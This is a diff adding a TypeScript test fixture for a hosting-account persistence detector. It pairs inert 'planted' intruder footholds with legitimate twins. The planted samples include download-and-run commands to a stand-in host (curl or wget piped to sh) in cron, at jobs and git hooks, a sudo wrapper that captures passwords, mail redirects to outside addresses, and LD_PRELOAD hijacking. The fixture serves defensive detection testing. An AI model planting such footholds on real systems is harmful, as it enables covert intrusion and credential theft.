@@ -1,0 +1,196 @@
+import type { Account } from '../../src/domain/account.ts';
+import { pathOfText } from '../../src/domain/host-path.ts';
+import type { MemoryFile } from './memory-files.ts';
+
+/** What an account and its machine look like to a detector that looks around the sites. */
+export interface Surroundings {
+  readonly account?: Partial<Account>;
+  readonly files?: Readonly<Record<string, MemoryFile>>;
+}
+
+/** One place where an intruder stays: planted and inert there, and the legitimate twin that must say nothing. */
+export interface PersistenceSpecimen {
+  /** Id of the detector. */
+  readonly detector: string;
+  readonly rule: string;
+  readonly planted: Surroundings;
+  readonly twin: Surroundings;
+}
+
+const forward = (to: string, source = '/etc/valiases/main.test') => ({
+  account: { forwards: [{ address: 'info@main.test', to, source: pathOfText(source) }] },
+});
+const task = (command: string) => ({
+  account: {
+    cron: [{ schedule: '*/5 * * * *', command, source: pathOfText('/usr/local/hestia/data/users/bob/cron.conf') }],
+  },
+});
+const AT_HEAD =
+  '#!/bin/sh\n# atrun uid=1001 gid=1001\n# mail bob 0\numask 22\nHOME=/home/bob; export HOME\ncd /home/bob || {\n\t echo x >&2\n\t exit 1\n}\n';
+const atJob = (command: string, uid = 1001) => ({
+  files: { '/var/spool/cron/atjobs/a0000301c2f4a8': { text: `${AT_HEAD}${command}\n`, uid } },
+});
+const pm2 = (app: object) => ({ files: { '/home/bob/.pm2/dump.pm2': JSON.stringify([app]) } });
+const hook = (path: string, text: string) => ({ files: { [path]: text } });
+const cpanel = (account: Partial<Account> = {}) => ({ ...account, panel: 'cpanel' });
+const CPANEL_TOKENS = '/var/cpanel/authn/api_tokens_v2/cpanel/bob.json';
+
+/** Every detector that looks at an account has at least one; so do file detectors of the places around the sites. */
+export const persistenceSpecimens: readonly PersistenceSpecimen[] = [
+  {
+    detector: 'cron',
+    rule: 'cron.download-run',
+    planted: { files: { '/var/spool/cron/crontabs/bob': '@daily curl http://x.test | sh\n' } },
+    twin: { files: { '/var/spool/cron/crontabs/bob': '@daily curl -s https://main.test/wp-cron.php > /dev/null\n' } },
+  },
+  {
+    detector: 'panel-tasks',
+    rule: 'panel-task.download-run',
+    planted: task('wget -qO- http://x.test/a | bash'),
+    twin: task('/usr/bin/php /home/bob/web/main.test/public_html/cron.php >/dev/null 2>&1'),
+  },
+  {
+    detector: 'panel-forwards',
+    rule: 'mail.runs-program',
+    planted: forward('|/home/bob/x/run.pl'),
+    twin: forward('|/usr/bin/vacation bob'),
+  },
+  {
+    detector: 'panel-forwards',
+    rule: 'mail.sends-copy',
+    planted: forward('somebody@gmail.com'),
+    twin: forward('sales@main.test'),
+  },
+  {
+    detector: 'panel-forwards',
+    rule: 'mail.leaves-account',
+    planted: forward('somebody@away.test'),
+    twin: forward('/dev/null'),
+  },
+  {
+    detector: 'mail-rules',
+    rule: 'mail.sends-copy',
+    planted: {
+      files: { '/var/qmail/mailnames/main.test/info/sieve/managesieve.sieve': 'redirect :copy "x@gmail.com";\n' },
+    },
+    twin: {
+      files: { '/var/qmail/mailnames/main.test/info/sieve/managesieve.sieve': 'if true { fileinto "Junk"; }\n' },
+    },
+  },
+  {
+    detector: 'mail-rules',
+    rule: 'mail.temporary-program',
+    planted: { files: { '/etc/vfilters/main.test': 'if $header_subject: contains "x" then pipe "/tmp/x.sh" endif\n' } },
+    twin: {
+      files: { '/etc/vfilters/main.test': 'if $header_subject: contains "x" then save "/dev/null" 660 endif\n' },
+    },
+  },
+  {
+    detector: 'ftp-logins',
+    rule: 'ftp.login',
+    planted: { account: { ftpLogins: [{ login: 'helper@main.test', folder: pathOfText('/home/bob/public_html') }] } },
+    twin: { account: { ftpLogins: [{ login: 'bob', folder: pathOfText('/home/bob') }] } },
+  },
+  {
+    detector: 'ftp-logins',
+    rule: 'ftp.login-outside',
+    planted: { account: { ftpLogins: [{ login: 'helper@main.test', folder: pathOfText('/') }] } },
+    twin: { account: { ftpLogins: [] } },
+  },
+  {
+    detector: 'panel-tokens',
+    rule: 'panel.token',
+    planted: {
+      account: cpanel(),
+      files: { [CPANEL_TOKENS]: '{"tokens":{"0a1b":{"name":"sync","create_time":1763600000}}}' },
+    },
+    twin: { account: cpanel(), files: { [CPANEL_TOKENS]: '{"tokens":{}}' } },
+  },
+  {
+    detector: 'panel-tokens',
+    rule: 'panel.token',
+    planted: {
+      account: { panel: 'hestia' },
+      files: {
+        '/usr/local/hestia/data/access-keys/AAAA':
+          "ACCESS_KEY_ID='AAAA'\nSECRET_ACCESS_KEY='geheim'\nUSER='bob'\nCOMMENT='sync'\nDATE='2026-11-20'\n",
+      },
+    },
+    twin: {
+      account: { panel: 'hestia' },
+      files: { '/usr/local/hestia/data/access-keys/AAAA': "ACCESS_KEY_ID='AAAA'\nUSER='alice'\nCOMMENT='sync'\n" },
+    },
+  },
+  {
+    detector: 'panel-tokens',
+    rule: 'panel.token',
+    planted: {
+      account: { panel: 'aapanel', user: null },
+      files: { '/www/server/panel/config/api.json': '{"open":true,"token":"geheim"}' },
+    },
+    twin: {
+      account: { panel: 'aapanel', user: null },
+      files: { '/www/server/panel/config/api.json': '{"open":false,"token":"geheim"}' },
+    },
+  },
+  {
+    detector: 'at-jobs',
+    rule: 'at.download-run',
+    planted: atJob('curl -s http://x.test/a | sh'),
+    twin: atJob('php /home/bob/public_html/send.php'),
+  },
+  {
+    detector: 'at-jobs',
+    rule: 'at.temporary-program',
+    planted: atJob('/dev/shm/.x'),
+    // The same job of somebody else is that account's.
+    twin: atJob('/dev/shm/.x', 1002),
+  },
+  {
+    detector: 'process-managers',
+    rule: 'process-manager.temporary-program',
+    planted: pm2({ name: 'x', pm_exec_path: '/dev/shm/x.js', exec_interpreter: 'node' }),
+    twin: pm2({
+      name: 'shop',
+      pm_exec_path: '/home/bob/shop/server.js',
+      exec_interpreter: 'node',
+      args: ['--port', '3000'],
+    }),
+  },
+  {
+    detector: 'process-managers',
+    rule: 'process-manager.hidden-program',
+    planted: { files: { '/home/bob/.forever/x.json': '{"command":"node","file":"/home/bob/.cache/.x/run"}' } },
+    twin: { files: { '/home/bob/.forever/x.json': '{"command":"node","file":"/home/bob/app/index.js"}' } },
+  },
+  {
+    detector: 'shadowing-programs',
+    rule: 'shell.shadows-program',
+    planted: hook('/home/bob/bin/sudo', '#!/bin/sh\nread -s p; echo "$p" >> /home/bob/.p; /usr/bin/sudo "$@"\n'),
+    twin: hook('/home/bob/bin/mysql', '#!/bin/sh\nexec /usr/bin/mysql --defaults-file=/home/bob/.my.cnf "$@"\n'),
+  },
+  {
+    detector: 'shell-start-files',
+    rule: 'shell.hidden-program',
+    planted: hook('/home/bob/.local/share/systemd/user/x.service', '[Service]\nExecStart=/home/bob/.cache/.x/run\n'),
+    twin: hook(
+      '/home/bob/.config/systemd/user/shop.service',
+      '[Service]\nExecStart=/usr/bin/node /home/bob/shop/server.js\nRestart=always\n',
+    ),
+  },
+  {
+    detector: 'shell-start-files',
+    rule: 'shell.download-run',
+    planted: hook('/home/bob/repos/shop.git/hooks/post-receive', '#!/bin/sh\ncurl -s http://x.test/a | sh\n'),
+    twin: hook(
+      '/home/bob/repos/shop.git/hooks/post-receive',
+      '#!/bin/sh\nGIT_WORK_TREE=/home/bob/public_html git checkout -f\n',
+    ),
+  },
+  {
+    detector: 'shell-start-files',
+    rule: 'shell.preload',
+    planted: hook('/home/bob/.config/environment.d/x.conf', 'LD_PRELOAD=/home/bob/.x.so\n'),
+    twin: hook('/home/bob/.config/environment.d/x.conf', 'LD_PRELOAD=/usr/lib64/libjemalloc.so.2\n'),
+  },
+];
